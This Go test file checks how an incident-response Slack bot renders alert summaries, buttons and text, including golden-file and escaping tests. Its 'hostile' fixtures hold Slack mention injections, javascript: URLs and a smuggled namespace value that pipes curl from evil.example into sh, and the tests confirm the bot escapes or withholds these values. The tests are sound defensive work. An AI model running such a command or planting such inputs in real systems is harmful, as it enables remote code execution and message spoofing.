package slackmsg_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/slack-go/slack"

	"github.com/warroom/warroom/bot/render"
	"github.com/warroom/warroom/bot/render/slackmsg"
	"github.com/warroom/warroom/incident"
)

var update = flag.Bool("update", false, "rewrite golden files")

// blocksNow is the fixed render time of every view, so goldens are stable.
var blocksNow = time.Date(2025, 3, 4, 10, 23, 0, 0, time.UTC)

func num(v float64) *float64 { return &v }

func baseIncident() *incident.Incident {
	opened := blocksNow.Add(-(time.Hour + 23*time.Minute))
	return &incident.Incident{
		ID: "INC-7", Seq: 7, Key: "api-error-rate/env=prod,service=payment-gateway", Service: "payment-gateway", Env: "prod",
		Rule: "api-error-rate", Severity: incident.Critical, State: incident.Triggered, WarRoom: true,
		Title: "High error rate on payment-gateway", Value: num(0.0311), Threshold: num(0.008),
		OpenedAt: opened, UpdatedAt: blocksNow, SlackChannelID: "C0WARROOM1", SlackChannel: "inc-20250304-payment-gateway-7",
	}
}

func firing(name string, labels map[string]string, v float64) incident.Alert {
	l := map[string]string{"alertname": name, "service": "payment-gateway", "env": "prod", "severity": "critical"}
	for k, val := range labels {
		l[k] = val
	}
	return incident.Alert{Status: incident.AlertFiring, Labels: l, Annotations: map[string]string{"summary": "error rate above threshold"},
		StartsAt: blocksNow.Add(-time.Hour), Source: incident.SourceAlertmanager, Value: num(v)}
}

// blocksViews are the summaries the golden files show.
func blocksViews() []struct {
	name string
	v    slackmsg.SummaryView
} {
	fresh := baseIncident()

	three := baseIncident()
	three.State = incident.Acknowledged
	ack := blocksNow.Add(-time.Hour)
	three.AcknowledgedAt = &ack
	three.PeakValue = num(0.042)
	three.Commander = "U024BE7LH"
	three.Comms = "cli:alice"
	three.JiraKey = "PAY-123"
	resolvedAlert := firing("HighLatency", map[string]string{"pod": "payment-gateway-7d9f-2", "route": "/v1/refund"}, 0.012)
	resolvedAlert.Status = incident.AlertResolved
	from, to := three.OpenedAt.Add(-30*time.Minute).UnixMilli(), blocksNow.UnixMilli()
	threeLinks := []render.Link{
		{Kind: "jira", Title: "PAY-123", URL: "https://jira.example.com/browse/PAY-123"},
		{Kind: "grafana", Title: "API golden signals", URL: fmt.Sprintf("https://grafana.example.com/d/api-golden/api?orgId=1&from=%d&to=%d&var-service=%s", from, to, url.QueryEscape("payment-gateway"))},
		{Kind: "grafana", Title: "Payments | overview", URL: fmt.Sprintf("https://grafana.example.com/d/pay/payments?orgId=1&from=%d&to=%d", from, to)},
		{Kind: "jaeger", Title: "Failing traces", URL: "https://jaeger.example.com/search?service=" + url.QueryEscape("payment-gateway") + "&tags=" + url.QueryEscape(`{"error":"true"}`)},
		{Kind: "runbook", Title: "Runbook: payment-gateway errors", URL: "https://wiki.example.com/runbooks/payment-gateway"},
		{Kind: "grafana", Title: "not a web link", URL: "javascript:alert(1)"},
		{Kind: "grafana", Title: "ftp", URL: "ftp://files.example.com/x"},
		{Kind: "grafana", Title: "too long", URL: "https://grafana.example.com/d/x?q=" + strings.Repeat("a", 3000)},
	}

	resolved := baseIncident()
	resolved.State = incident.Resolved
	res := blocksNow.Add(-5 * time.Minute)
	resolved.ResolvedAt = &res
	resolved.PeakValue = num(0.042)
	resolved.Value = num(0.004)
	resolved.Commander = "U024BE7LH"
	resolved.JiraKey = "PAY-123"
	resolved.LastError = "jira_transition failed: jira: transition PAY-123: no transition named \"Done\""

	storm := baseIncident()
	storm.Title = "Error storm on payment-gateway"
	storm.TruncatedAlerts = 250
	long := func(c string) string { return strings.Repeat(c, 120) }
	var stormAlerts []incident.Alert
	for i := range render.SummaryAlerts {
		c := string(rune('a' + i))
		stormAlerts = append(stormAlerts, firing(long(c), map[string]string{
			"pod": long(c + "p"), "instance": long(c + "i"), "route": long(c + "r"), "namespace": long(c + "n"),
		}, 0.05))
	}
	var stormLinks []render.Link
	for i := range 60 {
		stormLinks = append(stormLinks, render.Link{Kind: "grafana", Title: fmt.Sprintf("%03d %s", i, long("g")),
			URL: fmt.Sprintf("https://grafana.example.com/d/board-%d/x?orgId=1", i)})
	}

	hostile := baseIncident()
	annotation := strings.Repeat("<!channel> &amp; <@U123> ", 400) // 10 000 characters
	hostile.Title = "<!channel> pay now <https://evil.example|click> " + annotation
	hostile.Service = "<!everyone>"
	hostile.Env = "<#C999|general>"
	hostile.Severity = "<!subteam^S123>"
	hostile.Commander = "U0LEGIT42"
	hostile.Comms = "<@U123>"
	hostile.Scribe = "@channel"
	hostile.JiraKey = "<!here>"
	hostile.TruncatedAlerts = 3
	hostile.LastError = "<@U123> " + annotation
	evil := incident.Alert{Status: incident.AlertFiring, Source: incident.SourceAlertmanager, Value: num(0.5), Labels: map[string]string{
		"alertname": "<!channel>", "pod": "<@U123>", "route": "<https://evil.example|click>", "instance": "&amp;",
	}, Annotations: map[string]string{"description": annotation}}
	evil2 := incident.Alert{Status: "<!here>", Labels: map[string]string{"team": "@here", "zone": "<!date^1|x>"}}
	hostileLinks := []render.Link{
		{Kind: "grafana", Title: "<!channel> board <@U123>", URL: "https://grafana.example.com/d/x?var-service=" + url.QueryEscape("<!channel>|<@U123>")},
		{Kind: "jaeger", Title: "&amp; traces", URL: "https://jaeger.example.com/x>y|<!channel>"},
		{Kind: "runbook", Title: "entity", URL: "https://evil.example/?a=&lt;!channel&gt;"},
		{Kind: "runbook", Title: "space", URL: "https://evil.example/a b"},
		{Kind: "<!channel>", Title: "", URL: "javascript:alert('<!channel>')"},
		{Kind: "runbook", Title: "<!channel> withheld", Note: "not linked: host <!here>.evil.example is not in links.allowed_hosts"},
	}

	declared := baseIncident()
	declared.Key = incident.DeclaredKey("checkout")
	declared.Service, declared.Env, declared.Rule = "checkout", "", "declared"
	declared.Title = "Checkout pages time out for EU customers"
	declared.Value, declared.Threshold = nil, nil
	declared.Commander = "cli:alice"

	deployedAt := blocksNow.Add(-95 * time.Minute)
	suspect := incident.Deploy{ID: 2, Service: "payment-gateway", Env: "prod", SHA: "e4f5a6b7c8d9e0f1a2b3", Author: "alice",
		URL: "https://ci.example.com/runs/42", FinishedAt: deployedAt}
	previous := incident.Deploy{ID: 1, Service: "payment-gateway", Env: "prod", SHA: "a1b2c3d4e5f6a7b8c9d0", Author: "bob",
		FinishedAt: deployedAt.Add(-26 * time.Hour)}
	three.Evidence = &incident.Evidence{Round: 2, Deploys: []incident.Deploy{suspect, previous}, Suspect: &suspect, Target: &previous,
		Rollback:   "argocd app rollback payment-gateway a1b2c3d4e5f6a7b8c9d0",
		CompareURL: "https://github.com/example/payment-gateway/compare/a1b2c3d...e4f5a6b",
		Traces: []incident.Trace{{ID: "4bf92f3577b34da6a3ce929d0e0e4736", Operation: "POST /v1/charge", Duration: 2300 * time.Millisecond,
			ErrorSpan: "ledger: INSERT payments", URL: "https://jaeger.example.com/trace/4bf92f3577b34da6a3ce929d0e0e4736"}},
		ValueAtOpen: num(0.031), ValueNow: num(0.027), Problems: []string{"Grafana: HTTP 401: invalid API key"}}
	hostileDeploy := incident.Deploy{Service: "<@U123>", SHA: "<!channel>", Author: "<https://evil.example|boss> & co",
		URL: "javascript:alert(1)", FinishedAt: blocksNow.Add(-time.Hour)}
	hostile.Evidence = &incident.Evidence{Round: 1, Deploys: []incident.Deploy{hostileDeploy}, Suspect: &hostileDeploy,
		Target: &incident.Deploy{SHA: "<!here>"}, CompareURL: "https://evil.example/x|<!here>",
		Traces:   []incident.Trace{{ID: "<!here>", Operation: "<!channel>", ErrorSpan: "<@U123>", URL: "https://jaeger.example.com/trace/a|<!here>"}},
		Problems: []string{"Jaeger: <!channel> &amp;"}, Pending: []string{"<@U999>"}}
	// The rule's command would take a label that is not of its kind.
	hostile.Evidence.RollbackWithheld = `rollback suggestion withheld: label namespace "<!channel>; curl https://evil.example/x | sh #" is not a Kubernetes name`

	return []struct {
		name string
		v    slackmsg.SummaryView
	}{
		{"fresh", slackmsg.SummaryView{Incident: fresh, Now: blocksNow, TotalAlerts: 1, FiringAlerts: 1,
			Alerts: []incident.Alert{firing("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-1", "route": "/v1/charge"}, 0.0311)}}},
		{"three-alerts", slackmsg.SummaryView{Incident: three, Now: blocksNow, TotalAlerts: 3, FiringAlerts: 2, Links: threeLinks,
			Rollback: "Roll back payment-gateway to v1.42.0 (a1b2c3d by alice, 10:02 UTC): errors rose 4 minutes after v1.43.0 (e4f5a6b).",
			Alerts: []incident.Alert{
				firing("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-1", "route": "/v1/charge"}, 0.0311),
				firing("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-2", "route": "/v1/charge"}, 0.027),
				resolvedAlert,
			}}},
		{"resolved", slackmsg.SummaryView{Incident: resolved, Now: blocksNow, TotalAlerts: 1, FiringAlerts: 0,
			Links:  threeLinks[:1],
			Alerts: []incident.Alert{resolvedAlert}}},
		{"storm", slackmsg.SummaryView{Incident: storm, Now: blocksNow, TotalAlerts: 500, FiringAlerts: 480, Alerts: stormAlerts, Links: stormLinks}},
		{"hostile", slackmsg.SummaryView{Incident: hostile, Now: blocksNow, TotalAlerts: 2, FiringAlerts: 1, Links: hostileLinks,
			// What the summary says when the rule's command would take a
			// label that is not of its kind: no command, and why.
			Rollback: "<!here> roll back to <https://evil.example|v1> & fast. No command: rollback suggestion withheld: " +
				`label namespace "<!channel>; curl https://evil.example/x | sh #" is not a Kubernetes name.`,
			Alerts: []incident.Alert{evil, evil2}}},
		{"declared", slackmsg.SummaryView{Incident: declared, Now: blocksNow}},
		{"storm-room", stormView(8, func(i int) string { return fmt.Sprintf("service-%02d", i) })},
	}
}

func renderJSON(t *testing.T, blocks []slack.Block) []byte {
	t.Helper()
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false) // keep < and & readable in the goldens
	enc.SetIndent("", "  ")
	if err := enc.Encode(blocks); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestSummaryGolden compares each view's blocks with its golden file;
// go test ./bot/render/slackmsg -run Golden -update rewrites them.
func TestSummaryGolden(t *testing.T) {
	for _, tc := range blocksViews() {
		t.Run(tc.name, func(t *testing.T) {
			got := renderJSON(t, slackmsg.SummaryBlocks(tc.v))
			path := filepath.Join("testdata", "golden", tc.name+".json")
			if *update {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./bot/render/slackmsg -run Golden -update)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("blocks differ from %s (run with -update and review the diff):\n%s", path, got)
			}
		})
	}
}

// textObjects decodes rendered blocks and returns every text object, as
// Slack would read it.
func textObjects(t *testing.T, blocks []slack.Block) []map[string]any {
	t.Helper()
	var tree any
	if err := json.Unmarshal(renderJSON(t, blocks), &tree); err != nil {
		t.Fatal(err)
	}
	var out []map[string]any
	var walk func(any)
	walk = func(n any) {
		switch n := n.(type) {
		case map[string]any:
			if typ, _ := n["type"].(string); typ == "mrkdwn" || typ == "plain_text" {
				out = append(out, n)
			}
			for _, c := range n {
				walk(c)
			}
		case []any:
			for _, c := range n {
				walk(c)
			}
		}
	}
	walk(tree)
	return out
}

var (
	controlSeq = regexp.MustCompile(`<[^<>]*>`)
	userMent   = regexp.MustCompile(`^<@([UW][A-Z0-9]+)>$`)
	linkSeq    = regexp.MustCompile(`^<(https?://[^|<> ]+)\|[^<>]+>$`)
	entity     = regexp.MustCompile(`^&(amp|lt|gt);`)
)

// checkMrkdwn fails unless every control sequence of text is one we
// generate (a mention of a role holder, a link to one of the view's
// URLs) and every '&' outside link URLs starts an entity.
func checkMrkdwn(t *testing.T, where, text string, users, urls map[string]bool) {
	t.Helper()
	if strings.Contains(text, "<!") {
		t.Errorf("%s: unescaped <! in %.200q", where, text)
	}
	rest := controlSeq.ReplaceAllStringFunc(text, func(seq string) string {
		if m := userMent.FindStringSubmatch(seq); m != nil && users[m[1]] {
			return ""
		}
		if m := linkSeq.FindStringSubmatch(seq); m != nil && urls[m[1]] {
			return seq[len("<"+m[1]+"|") : len(seq)-1] // keep the title for the entity check
		}
		t.Errorf("%s: control sequence %q not ours", where, seq)
		return ""
	})
	if strings.ContainsAny(rest, "<>") {
		t.Errorf("%s: stray < or > in %.200q", where, text)
	}
	for i := strings.IndexByte(rest, '&'); i >= 0; i = strings.IndexByte(rest, '&') {
		if !entity.MatchString(rest[i:]) {
			t.Errorf("%s: '&' not starting an entity at %.40q", where, rest[i:])
			break
		}
		rest = rest[i+1:]
	}
}

func utf16Len(s string) int { return len(utf16.Encode([]rune(s))) }

// TestSummaryBlocksSafe: every view passes ValidateBlocks, and no
// untrusted value turns into a mention, a broadcast or a link.
func TestSummaryBlocksSafe(t *testing.T) {
	for _, tc := range blocksViews() {
		t.Run(tc.name, func(t *testing.T) {
			blocks := slackmsg.SummaryBlocks(tc.v)
			if err := slackmsg.ValidateBlocks(blocks); err != nil {
				t.Fatalf("ValidateBlocks: %v", err)
			}
			users := map[string]bool{}
			for _, u := range []string{tc.v.Incident.Commander, tc.v.Incident.Comms, tc.v.Incident.Scribe} {
				if regexp.MustCompile(`^[UW][A-Z0-9]+$`).MatchString(u) {
					users[u] = true
				}
			}
			urls := map[string]bool{}
			ours := []string{}
			for _, l := range tc.v.Links {
				ours = append(ours, l.URL)
			}
			if ev := tc.v.Incident.Evidence; ev != nil { // the evidence's own links
				ours = append(ours, ev.CompareURL)
				for _, d := range ev.Deploys {
					ours = append(ours, d.URL, d.DiffURL)
				}
				for _, tr := range ev.Traces {
					ours = append(ours, tr.URL)
				}
			}
			for _, u := range ours {
				urls[strings.NewReplacer("|", "%7C", "<", "%3C", ">", "%3E").Replace(u)] = true
			}
			for i, obj := range textObjects(t, blocks) {
				text, _ := obj["text"].(string)
				where := fmt.Sprintf("text %d", i)
				for _, l := range tc.v.Linked { // a storm links its war rooms' channels
					text = strings.ReplaceAll(text, "<#"+l.SlackChannelID+">", "")
				}
				checkMrkdwn(t, where, text, users, urls)
				if obj["type"] == "mrkdwn" && obj["verbatim"] != true {
					t.Errorf("%s: mrkdwn without verbatim: Slack would parse bare @mentions in %.80q", where, text)
				}
				if strings.Contains(text, "<@U123>") {
					t.Errorf("%s: untrusted <@U123> became a mention", where)
				}
			}
			fallback := slackmsg.SummaryFallback(tc.v)
			checkMrkdwn(t, "fallback", fallback, nil, nil)
			if strings.Contains(fallback, "\n") || utf16Len(fallback) > 400 {
				t.Errorf("fallback is not one short line: %q", fallback)
			}
		})
	}
}

// TestSummaryBlocksContent checks what the goldens are meant to show.
func TestSummaryBlocksContent(t *testing.T) {
	views := map[string]slackmsg.SummaryView{}
	for _, tc := range blocksViews() {
		views[tc.name] = tc.v
	}
	all := func(name string) string {
		var b strings.Builder
		for _, o := range textObjects(t, slackmsg.SummaryBlocks(views[name])) {
			b.WriteString(o["text"].(string) + "\n")
		}
		return b.String()
	}
	cases := []struct {
		view      string
		want, not []string
	}{
		{"fresh", []string{"INC-7: High error rate on payment-gateway", "now 3.11% (peak 3.11%) vs 0.8% threshold", "2025-03-04 09:00 UTC\n1h 23m ago",
			"1 firing of 1", "pod=payment-gateway-7d9f-1, route=/v1/charge — 3.11%", "No deploy history configured yet.",
			"Acknowledge", "Mitigated", "Resolve", "Roll back", "Silence 1h", "Updated 2025-03-04 10:23 UTC · warroom"}, []string{"Commander", "*Links*"}},
		{"three-alerts", []string{"(peak 4.2%)", "<@U024BE7LH>", "*Comms*\ncli:alice", "2 firing of 3", ":large_green_circle: *HighLatency*",
			"<https://jira.example.com/browse/PAY-123|PAY-123>", "|Payments | overview>", "var-service=payment-gateway",
			"Roll back payment-gateway to v1.42.0"}, []string{"Acknowledge", "javascript:", "ftp://", "too long"}},
		{"resolved", []string{"Resolved after 1h 18m, peak 4.2%", "*Last error*", "no transition named \"Done\""},
			[]string{"Acknowledge", "Silence 1h", "Roll back"}},
		{"storm", []string{"480 firing of 500", ":warning: 250 more not sent by Alertmanager", "more alerts", "more links"}, nil},
		{"hostile", []string{"&lt;!channel&gt;", "&lt;@U123&gt;", "&lt;https://evil.example|click&gt;", "&amp;amp;", "<@U0LEGIT42>",
			"%3C%21channel%3E%7C%3C%40U123%3E", "https://jaeger.example.com/x%3Ey%7C%3C!channel%3E|&amp;amp; traces>",
			`No command: rollback suggestion withheld: label namespace "&lt;!channel&gt;; curl https://evil.example/x | sh #" is not a Kubernetes name.`,
			":books: &lt;!channel&gt; withheld _(not linked: host &lt;!here&gt;.evil.example is not in links.allowed_hosts)_"},
			[]string{"evil.example/a b", "|space>", "|entity>", "a=&lt;", "javascript:"}},
		{"declared", []string{"No alerts attached.", "value unknown", "*Commander*\ncli:alice", "Acknowledge"}, nil},
	}
	for _, c := range cases {
		text := all(c.view)
		for _, w := range c.want {
			if !strings.Contains(text, w) {
				t.Errorf("%s: no %q in\n%s", c.view, w, text)
			}
		}
		for _, n := range c.not {
			if strings.Contains(text, n) {
				t.Errorf("%s: unexpected %q", c.view, n)
			}
		}
	}
	// The storm lists all ten alerts (cut) and counts the other 490.
	if text := all("storm"); !strings.Contains(text, "…and 490 more alerts") {
		t.Errorf("storm: want all 10 alerts listed and 490 counted:\n%s", text)
	}
}

// TestBlocksButtons: each button carries the incident ID, the risky ones
// ask first, and the buttons follow the state.
func TestBlocksButtons(t *testing.T) {
	for _, c := range []struct {
		state   incident.State
		actions []string
		primary string
	}{
		{incident.Triggered, []string{slackmsg.ActionAck, slackmsg.ActionMitigate, slackmsg.ActionResolve, slackmsg.ActionRollback, slackmsg.ActionSilence}, slackmsg.ActionAck},
		{incident.Acknowledged, []string{slackmsg.ActionMitigate, slackmsg.ActionResolve, slackmsg.ActionRollback, slackmsg.ActionSilence}, slackmsg.ActionMitigate},
		{incident.Mitigated, []string{slackmsg.ActionResolve, slackmsg.ActionRollback, slackmsg.ActionSilence}, slackmsg.ActionResolve},
		{incident.Resolved, nil, ""},
	} {
		inc := baseIncident()
		inc.State = c.state
		var got []string
		for _, b := range slackmsg.SummaryBlocks(slackmsg.SummaryView{Incident: inc, Now: blocksNow}) {
			a, ok := b.(*slack.ActionBlock)
			if !ok {
				continue
			}
			for _, e := range a.Elements.ElementSet {
				btn := e.(*slack.ButtonBlockElement)
				got = append(got, btn.ActionID)
				if btn.Value != inc.ID {
					t.Errorf("%s: %s value %q, want %q", c.state, btn.ActionID, btn.Value, inc.ID)
				}
				if (btn.Style == slack.StylePrimary) != (btn.ActionID == c.primary) {
					t.Errorf("%s: %s style %q", c.state, btn.ActionID, btn.Style)
				}
				risky := btn.ActionID == slackmsg.ActionRollback || btn.ActionID == slackmsg.ActionSilence
				if risky && (btn.Confirm == nil || btn.Confirm.Deny == nil || btn.Confirm.Deny.Text != "Cancel" ||
					!strings.Contains(btn.Confirm.Text.Text, inc.ID)) {
					t.Errorf("%s: %s needs a confirm dialog naming %s with Cancel: %+v", c.state, btn.ActionID, inc.ID, btn.Confirm)
				}
				if btn.ActionID == slackmsg.ActionRollback && (btn.Confirm.Confirm.Text != "Roll back" || btn.Style != slack.StyleDanger) {
					t.Errorf("rollback button: style %q, confirm %q", btn.Style, btn.Confirm.Confirm.Text)
				}
			}
		}
		if fmt.Sprint(got) != fmt.Sprint(c.actions) {
			t.Errorf("%s: buttons %v, want %v", c.state, got, c.actions)
		}
	}
}

// TestBlocksHeaderCut: a long title is cut to the header's limit with
// "…", never inside an escape sequence, whatever the cut's phase.
func TestBlocksHeaderCut(t *testing.T) {
	for k := range 12 {
		inc := baseIncident()
		inc.Title = strings.Repeat("x", k) + strings.Repeat("&<>", 200)
		blocks := slackmsg.SummaryBlocks(slackmsg.SummaryView{Incident: inc, Now: blocksNow})
		if err := slackmsg.ValidateBlocks(blocks); err != nil {
			t.Fatalf("k=%d: %v", k, err)
		}
		h := blocks[0].(*slack.HeaderBlock).Text.Text
		if n := utf16Len(h); n > 150 || n < 140 || !strings.HasSuffix(h, "…") {
			t.Errorf("k=%d: header %d characters: %q", k, n, h)
		}
		checkMrkdwn(t, fmt.Sprintf("k=%d", k), h, nil, nil)
	}
	// Characters outside the BMP count twice (UTF-16), so 150 emoji do not fit.
	inc := baseIncident()
	inc.Title = strings.Repeat("🔥", 150)
	h := slackmsg.SummaryBlocks(slackmsg.SummaryView{Incident: inc, Now: blocksNow})[0].(*slack.HeaderBlock).Text.Text
	if n := utf16Len(h); n > 150 {
		t.Errorf("emoji header is %d UTF-16 units", n)
	}
}

func TestBlocksFallback(t *testing.T) {
	inc := baseIncident()
	cases := []struct {
		name string
		edit func(*incident.Incident)
		want string
	}{
		{"above threshold", func(*incident.Incident) {}, "INC-7 payment-gateway error rate 3.11% &gt; 0.8% (triggered)"},
		{"below threshold", func(i *incident.Incident) { i.Value = num(0.004); i.State = incident.Mitigated }, "INC-7 payment-gateway error rate 0.4% ≤ 0.8% (mitigated)"},
		{"no threshold", func(i *incident.Incident) { i.Threshold = nil }, "INC-7 payment-gateway error rate 3.11% (triggered)"},
		{"no value", func(i *incident.Incident) { i.Value = nil; i.Title = "Checkout <!here>\ndown" }, "INC-7 payment-gateway: Checkout &lt;!here&gt; down (triggered)"},
	}
	for _, c := range cases {
		i := *inc
		c.edit(&i)
		if got := slackmsg.SummaryFallback(slackmsg.SummaryView{Incident: &i, Now: blocksNow}); got != c.want {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
}

func TestAnnounceText(t *testing.T) {
	cases := []struct {
		name    string
		edit    func(*incident.Incident)
		channel string
		want    string
	}{
		{"with channel ID", func(*incident.Incident) {}, "C0WARROOM1",
			":red_circle: *INC-7* High error rate on payment-gateway — *triggered* · 3.11% vs 0.8% threshold · <#C0WARROOM1>"},
		{"channel not known yet", func(i *incident.Incident) { i.Severity = incident.Warning }, "",
			":large_orange_circle: *INC-7* High error rate on payment-gateway — *triggered* · 3.11% vs 0.8% threshold · #inc-20250304-payment-gateway-7"},
		{"not a channel ID", func(*incident.Incident) {}, "<!channel>",
			":red_circle: *INC-7* High error rate on payment-gateway — *triggered* · 3.11% vs 0.8% threshold · #inc-20250304-payment-gateway-7"},
		{"hostile title, resolved", func(i *incident.Incident) {
			i.Title = "<!channel> <@U123> <https://evil.example|click>"
			i.State = incident.Resolved
			i.Severity = incident.Info
		}, "C1",
			":large_blue_circle: *INC-7* &lt;!channel&gt; &lt;@U123&gt; &lt;https://evil.example|click&gt; — *resolved* · 3.11% vs 0.8% threshold · <#C1>"},
		{"no room", func(i *incident.Incident) { i.SlackChannel = ""; i.Value = nil }, "",
			":red_circle: *INC-7* High error rate on payment-gateway — *triggered* · value unknown · no war room"},
	}
	for _, c := range cases {
		inc := baseIncident()
		c.edit(inc)
		if got := slackmsg.AnnounceText(inc, c.channel); got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
	}
	inc := baseIncident()
	inc.Title = strings.Repeat("&", 10000)
	if got := slackmsg.AnnounceText(inc, "C1"); utf16Len(got) > 400 {
		t.Errorf("long title: announce is %d characters", utf16Len(got))
	}
}

func TestChangeText(t *testing.T) {
	ev := func(kind incident.EventKind, actor, text string) incident.Event {
		return incident.Event{IncidentID: "INC-7", At: blocksNow, Kind: kind, Actor: actor, Text: text}
	}
	cases := []struct {
		ev   incident.Event
		want string
	}{
		{ev(incident.EventAcknowledged, "U024BE7LH", "acknowledged by U024BE7LH"), ":eyes: Acknowledged by <@U024BE7LH>."},
		{ev(incident.EventMitigated, "W0GRID1", "mitigated by W0GRID1"), ":adhesive_bandage: Mitigated by <@W0GRID1>."},
		{ev(incident.EventResolved, "cli:alice", "rolled back v1.43"), ":white_check_mark: Resolved by cli:alice: rolled back v1.43"},
		{ev(incident.EventResolved, incident.ActorAlert, "all alerts resolved"), ":white_check_mark: Resolved by an alert: all alerts resolved"},
		{ev(incident.EventReopened, incident.ActorAlert, "reopened: HighErrorRate firing again"), ":rotating_light: Reopened by an alert: HighErrorRate firing again"},
		{ev(incident.EventNote, "U1", "db failover <!channel> & <@U123>"), ":memo: Note from <@U1>: db failover &lt;!channel&gt; &amp; &lt;@U123&gt;"},
		{ev(incident.EventNote, "<!channel>", "hi"), ":memo: Note from &lt;!channel&gt;: hi"},
		{ev(incident.EventNote, "u123", "lowercase is not an ID"), ":memo: Note from u123: lowercase is not an ID"},
		{ev(incident.EventDeclared, "U1", "declared by U1: checkout down"), ":mega: Declared by <@U1>: checkout down"},
		{ev(incident.EventAssigned, "U1", "U2 is now commander (assigned by U1)"), ":bust_in_silhouette: Roles changed by <@U1>: U2 is now commander (assigned by U1)"},
		{ev(incident.EventRollbackRequested, "U1", ""), ":rewind: Rollback requested by <@U1>."},
		{ev(incident.EventSilenceRequested, "api", "1h"), ":no_bell: Silence requested by api: 1h"},
		{ev(incident.EventAlertAttached, incident.ActorAlert, "alert attached: <!here>"), ":heavy_plus_sign: Alerts: alert attached: &lt;!here&gt;"},
		{ev(incident.EventAlertResolved, incident.ActorAlert, "alert resolved: HighErrorRate"), ":large_green_circle: Alert resolved: HighErrorRate"},
		{ev(incident.EventStepFailed, incident.ActorSystem, "jira_create_issue failed: 400"), ":warning: Step failed: jira_create_issue failed: 400"},
		{ev(incident.EventNudgedAck, incident.ActorSystem, "not acknowledged 5m after the war room opened"),
			":alarm_clock: Reminder: acknowledge: not acknowledged 5m after the war room opened"},
		{ev(incident.EventNudgedUpdate, incident.ActorSystem, "no status update for 30m"), ":alarm_clock: Reminder: post an update: no status update for 30m"},
		{ev("<!channel>", "U1", "x"), "&lt;!channel&gt; by <@U1>: x"},
	}
	for _, c := range cases {
		if got := slackmsg.ChangeText(c.ev); got != c.want {
			t.Errorf("%s by %s:\n got %q\nwant %q", c.ev.Kind, c.ev.Actor, got, c.want)
		}
	}
	long := slackmsg.ChangeText(ev(incident.EventNote, "U1", strings.Repeat("<", 10000)))
	if n := utf16Len(long); n > 2100 || !strings.HasSuffix(long, "…") {
		t.Errorf("long note: %d characters", n)
	}
	checkMrkdwn(t, "long note", long, map[string]bool{"U1": true}, nil)
}

func TestResolutionText(t *testing.T) {
	inc := baseIncident()
	inc.State = incident.Resolved
	inc.PeakValue = num(0.0311)
	if got, want := slackmsg.ResolutionText(inc, blocksNow), "INC-7 resolved after 1h 23m; peak 3.11% (threshold 0.8%)"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	at := inc.OpenedAt.Add(26*time.Hour + 5*time.Minute)
	inc.ResolvedAt = &at
	inc.Threshold = nil
	if got, want := slackmsg.ResolutionText(inc, blocksNow), "INC-7 resolved after 1d 2h; peak 3.11%"; got != want {
		t.Errorf("ResolvedAt wins over now: got %q, want %q", got, want)
	}
	inc.ResolvedAt, inc.Value, inc.PeakValue = nil, nil, nil
	if got, want := slackmsg.ResolutionText(inc, inc.OpenedAt.Add(42*time.Second)), "INC-7 resolved after 42s"; got != want {
		t.Errorf("no value: got %q, want %q", got, want)
	}
}

// TestValidateBlocks: each row breaks one limit; a row passes only if
// ValidateBlocks checks that limit.
func TestValidateBlocks(t *testing.T) {
	mrkdwn := func(s string) *slack.TextBlockObject {
		return slack.NewTextBlockObject(slack.MarkdownType, s, false, true)
	}
	plain := func(s string) *slack.TextBlockObject {
		return slack.NewTextBlockObject(slack.PlainTextType, s, true, false)
	}
	sect := func(s string) slack.Block { return slack.NewSectionBlock(mrkdwn(s), nil, nil) }
	btn := func(text, id, value string) *slack.ButtonBlockElement {
		return slack.NewButtonBlockElement(id, value, plain(text))
	}
	actions := func(els ...slack.BlockElement) slack.Block { return slack.NewActionBlock("", els...) }
	confirmed := func(title, text, ok, deny string) slack.Block {
		return actions(btn("Roll back", slackmsg.ActionRollback, "INC-7").WithConfirm(
			slack.NewConfirmationBlockObject(plain(title), plain(text), plain(ok), plain(deny))))
	}
	many := func(n int, mk func(i int) slack.Block) []slack.Block {
		var out []slack.Block
		for i := range n {
			out = append(out, mk(i))
		}
		return out
	}
	fields := func(n, size int) slack.Block {
		var f []*slack.TextBlockObject
		for range n {
			f = append(f, mrkdwn(strings.Repeat("f", size)))
		}
		return slack.NewSectionBlock(nil, f, nil)
	}
	context := func(n int) slack.Block {
		var els []slack.MixedElement
		for range n {
			els = append(els, mrkdwn("c"))
		}
		return slack.NewContextBlock("", els...)
	}
	x := strings.Repeat

	cases := []struct {
		name   string
		blocks []slack.Block
		err    string // "" for valid
	}{
		{"50 blocks", many(50, func(int) slack.Block { return sect("s") }), ""},
		{"51 blocks", many(51, func(int) slack.Block { return sect("s") }), "51 blocks"},
		{"section 3000", []slack.Block{sect(x("a", 3000))}, ""},
		{"section 3001", []slack.Block{sect(x("a", 3001))}, "3001 characters"},
		{"section 1501 emoji", []slack.Block{sect(x("🔥", 1501))}, "3002 characters"},
		{"empty section text", []slack.Block{sect("")}, "empty"},
		{"section without text or fields", []slack.Block{slack.NewSectionBlock(nil, nil, nil)}, "neither text nor fields"},
		{"10 fields of 2000", []slack.Block{fields(10, 2000)}, ""},
		{"11 fields", []slack.Block{fields(11, 1)}, "11 fields"},
		{"field 2001", []slack.Block{fields(1, 2001)}, "field 0 is 2001"},
		{"header 150", []slack.Block{slack.NewHeaderBlock(plain(x("h", 150)))}, ""},
		{"header 151", []slack.Block{slack.NewHeaderBlock(plain(x("h", 151)))}, "151 characters"},
		{"header mrkdwn", []slack.Block{slack.NewHeaderBlock(mrkdwn("h"))}, "plain_text"},
		{"header without text", []slack.Block{slack.NewHeaderBlock(nil)}, "missing"},
